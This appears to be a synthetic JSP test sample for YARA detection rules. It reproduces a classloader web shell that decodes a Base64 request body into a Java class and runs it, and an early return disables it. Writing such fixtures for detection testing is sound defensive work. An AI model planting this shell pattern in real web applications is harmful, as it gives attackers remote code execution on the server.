<%-- Vigil YARA test sample: synthetic; the page returns first. --%>
<%@ page import="java.io.*" %>
<% if (true) { return; } %>
<%!
class U extends ClassLoader {
    U(ClassLoader c) { super(c); }
    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }
}
%>
<%
byte[] b = java.util.Base64.getDecoder().decode(request.getReader().readLine());
new U(this.getClass().getClassLoader()).g(b).newInstance().equals(pageContext);
%>
